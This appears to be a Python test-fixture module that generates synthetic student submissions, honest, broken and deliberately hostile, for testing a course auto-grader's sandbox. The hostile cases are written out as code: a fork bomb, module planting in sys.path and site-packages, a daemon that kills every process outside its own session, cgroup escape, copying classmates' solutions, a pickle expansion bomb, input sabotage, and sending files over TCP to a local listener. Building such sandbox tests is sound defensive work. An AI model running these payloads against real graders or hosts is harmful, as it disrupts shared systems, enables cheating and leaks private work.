"""Synthetic student submissions for the grader's tests and benchmark: honest, wrong, hostile.

Each case is our reference solution of bai04_dem_tu with `count_words_parallel` redefined at
the end of the file (a later `def` wins), or a broken file. The expected statuses are those of
the correctness tests; SPEED_CASES are correct but must not earn speed points.
"""

import zipfile
from pathlib import Path

from tangtoc import paths

EXERCISE = "bai04_dem_tu"
FILE = f"{EXERCISE}.py"
REFERENCE = (paths.SOLUTIONS / FILE).read_text(encoding="utf-8")
DAEMON_MARK = "tangtoc-hostile-daemon"
SHM_PREFIX = "tangtoc_hostile_"

_KEEP = "_reference_parallel = count_words_parallel\n"


def _override(body: str) -> str:
    return f"{REFERENCE}\n\n{_KEEP}\n\ndef count_words_parallel(paths, workers=2):\n{body}\n"


# name -> (source, expected statuses of the correctness tests)
CASES = {
    "dung": (REFERENCE, {"passed"}),
    "sai": (_override('    return Counter({"sai": 1})'), {"failed"}),
    "vong_lap": (_override("    while True:\n        pass"), {"timeout"}),
    "khoa_chet": (_override("    import threading\n    lock = threading.Lock()\n"
                            "    lock.acquire()\n    lock.acquire()"), {"timeout"}),
    "an_bo_nho": (_override("    blocks = []\n    while True:\n"
                            "        blocks.append(bytearray(64 * 2**20))"), {"crashed"}),
    "bom_tien_trinh": (_override("    import os, time\n    while True:\n        try:\n"
                                 "            os.fork()\n        except OSError:\n"
                                 "            time.sleep(0.05)"), {"timeout", "crashed"}),
    "thoat_khi_nhap": (REFERENCE + "\nimport sys\nsys.exit(3)\n", {"error"}),
    "os_exit_khi_nhap": (REFERENCE + "\nimport os\nos._exit(0)\n", {"crashed"}),
    "loi_cu_phap": (REFERENCE + "\ndef hong(:\n    pass\n", {"error"}),
    "thieu_ham": (REFERENCE.replace("def count_words_parallel(", "def dem_song_song("),
                  {"error"}),
    "in_nhieu": (_override("    import sys\n    print('x' * 2_000_000)\n"
                           "    print('y' * 2_000_000, file=sys.stderr)\n"
                           "    return _reference_parallel(paths, workers)"), {"passed"}),
    "tien_trinh_ngam": (_override(
        "    import os, sys\n    if os.fork() == 0:\n        os.setsid()\n"
        "        if os.fork() == 0:\n"
        f"            os.execve(sys.executable, [sys.executable, '-c', "
        f"'import time; time.sleep(600)', '{DAEMON_MARK}'], {{}})\n"
        "        os._exit(0)\n    os.wait()\n"
        "    return _reference_parallel(paths, workers)"), {"passed"}),
    "bo_lai_shm": (_override(
        "    import os\n    from multiprocessing import resource_tracker, shared_memory\n"
        f"    shm = shared_memory.SharedMemory('{SHM_PREFIX}' + str(os.getpid()), "
        "create=True, size=2**20)\n"
        "    resource_tracker.unregister(shm._name, 'shared_memory')\n    shm.close()\n"
        "    return _reference_parallel(paths, workers)"), {"passed"}),
    "tra_cung": (_override('    return Counter({"và": 3000, "là": 2000})'), {"failed"}),
    # The cheats of the tests of the tests, made self-contained: tests/project/cheats/ loads our
    # solutions, which no sandboxed submission can read.
    "luong": (_override("    from multiprocessing.pool import ThreadPool\n"
                        "    with ThreadPool(workers) as pool:\n"
                        "        return sum(pool.map(count_words_in_file, paths), Counter())"),
              {"passed"}),
    "tuan_tu": (_override("    return count_words_sequential(paths)"), {"passed"}),
}
# The scenarios of the golden results (test_golden_results.py): one observed status each, on
# one test only where it costs time, so that the same tests are reached on any machine.
GOLDEN_CASES = {
    "dung": REFERENCE,
    "sai": CASES["sai"][0],
    "treo_khi_rong": _override("    if not paths:\n        while True:\n            pass\n"
                               "    return _reference_parallel(paths, workers)"),
    "chet_khi_rong": _override("    import os, signal\n    if not paths:\n"
                               "        os.kill(os.getpid(), signal.SIGKILL)\n"
                               "    return _reference_parallel(paths, workers)"),
}
# Hostile submissions of issue 15: each tries to reach what a sandboxed call must not.
PLANT_MARK = "tangtoc_hostile_plant"
# Fatal to a judge or a later run that imported them; harmless to the submission's own call.
PLANTED = (f"{PLANT_MARK}.pth", f"{PLANT_MARK}.py", "pytest.py", "conftest.py")
PLANT_PLACES = ("/tmp", "/root", "/var/tmp")  # and the course, its venv and stdlib (tests)
_PLANT = f"""
import os, site, sys
from pathlib import Path
_here = Path(__file__).resolve()
for _place in {{Path.cwd(), Path.home(), _here.parent, _here.parents[1] / "work",
                _here.parents[1] / "judge", _here.parents[2], Path(sys.prefix),
                Path(sys.base_prefix), *map(Path, {PLANT_PLACES!r}), *map(Path, sys.path),
                *map(Path, site.getsitepackages())}}:
    for _name in {PLANTED!r}:
        try:
            (_place / _name).write_text("import os; os._exit(0)\\n")
        except OSError:
            pass
"""
_STOP_EVERYONE = (  # a daemon that stops, then kills, every process outside its own call
    "    import os, signal, time\n    own_session = os.getsid(0)\n    if os.fork() == 0:\n"
    "        os.setsid()\n        end = time.time() + 20\n        while time.time() < end:\n"
    "            for entry in os.listdir('/proc'):\n"
    "                if not entry.isdigit() or int(entry) == os.getpid():\n"
    "                    continue\n                try:\n"
    "                    if os.getsid(int(entry)) != own_session:\n"
    "                        os.kill(int(entry), signal.SIGSTOP)\n"
    "                        os.kill(int(entry), signal.SIGKILL)\n"
    "                except OSError:\n                    pass\n"
    "            time.sleep(0.05)\n        os._exit(0)\n"
    "    return _reference_parallel(paths, workers)")
_COPY_SOMEONE = (  # hand in any other copy of the exercise it can find (a classmate, ours)
    "    import os\n    from tangtoc import paths as course\n"
    "    own = os.path.realpath(__file__)\n"
    "    places = [str(course.SOLUTIONS), '/']\n    for place in places:\n"
    "        for folder, subfolders, files in os.walk(place):\n"
    "            subfolders[:] = [d for d in subfolders if d not in ('proc', 'sys', 'usr')]\n"
    f"            if '{FILE}' in files:\n"
    f"                found = os.path.realpath(os.path.join(folder, '{FILE}'))\n"
    "                if found != own:\n                    scope = {'__name__': 'chep'}\n"
    "                    exec(open(found).read(), scope)\n"
    "                    return scope['count_words_parallel'](paths, workers)\n"
    "    raise RuntimeError('không tìm được bài nào để chép')")
_MANY_PROCESSES = (  # leave its cgroup if it can, then start many more processes than allowed
    "    import glob, os, time\n"
    "    for procs in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True):\n"
    "        try:\n            open(procs, 'w').write(str(os.getpid()))\n"
    "        except OSError:\n            pass\n    children = []\n"
    "    for _ in range(100):\n        try:\n            child = os.fork()\n"
    "        except OSError:\n            break\n        if child == 0:\n"
    "            time.sleep(30)\n            os._exit(0)\n        children.append(child)\n"
    "    for child in children:\n        os.kill(child, 9)\n        os.waitpid(child, 0)\n"
    "    return _reference_parallel(paths, workers) if len(children) < 40 else Counter()")
_EXPANDING = (  # a result of a few bytes that unpickles into a huge list
    "    class Expanding:\n        def __reduce__(self):\n"
    "            return (list, (range(10**10),))\n    return Expanding()")
HOSTILE_CASES = {
    "gieo_module": (REFERENCE + _PLANT, {"passed"}),
    "dung_tat_ca": (_override(_STOP_EVERYONE), {"passed"}),
    "chep_bai": (_override(_COPY_SOMEONE), {"failed"}),
    "nhieu_tien_trinh": (_override(_MANY_PROCESSES), {"passed"}),
    "ket_qua_phinh": (_override(_EXPANDING), {"failed"}),
}
CASES.update(HOSTILE_CASES)
SPEED_CASES = ("luong", "tuan_tu")
# Sequential, and out to slow our baseline down: modules planted where a runner might import
# them, the shared inputs made bigger, a daemon stopping every process it can see.
SABOTAGE = _override(
    "    import os\n    for place in (os.getcwd(), '/tmp', os.path.dirname(__file__)):\n"
    "        for name in ('collections.py', 're.py', 'sitecustomize.py'):\n"
    "            try:\n                with open(os.path.join(place, name), 'w') as f:\n"
    "                    f.write('import time\\ntime.sleep(5)\\n')\n"
    "            except OSError:\n                pass\n    for path in paths:\n        try:\n"
    "            with open(path, 'a') as f:\n                f.write(' thêm' * 10**6)\n"
    "        except OSError:\n            pass\n"
    + _STOP_EVERYONE.replace("_reference_parallel(paths, workers)",
                             "count_words_sequential(paths)"))


def write_case(folder: Path, name: str, source: str | None = None) -> Path:
    """folder/<name>/bai04_dem_tu.py holding the case's source."""
    student = folder / name
    student.mkdir(parents=True)
    (student / FILE).write_text(source if source is not None else CASES[name][0],
                                encoding="utf-8")
    return student


def write_zip(folder: Path, name: str, members: dict[str, str | bytes]) -> Path:
    archive = folder / f"{name}.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        for member, data in members.items():
            zipped.writestr(member, data)
    return archive


def write_class(folder: Path, names) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        write_case(folder, name)
    return folder


def sending_case(port: int) -> str:
    """A correct submission that first tries to send our reference and itself over TCP to a
    listener of the test on the grader's machine (127.0.0.1:port)."""
    return _override(
        "    import socket\n    from tangtoc import paths as course\n"
        "    for name in (course.SOLUTIONS / 'bai04_dem_tu.py', __file__):\n        try:\n"
        f"            with socket.create_connection(('127.0.0.1', {port}), timeout=2) as s:\n"
        "                s.sendall(open(name, 'rb').read())\n        except OSError:\n"
        "            pass\n    return _reference_parallel(paths, workers)")
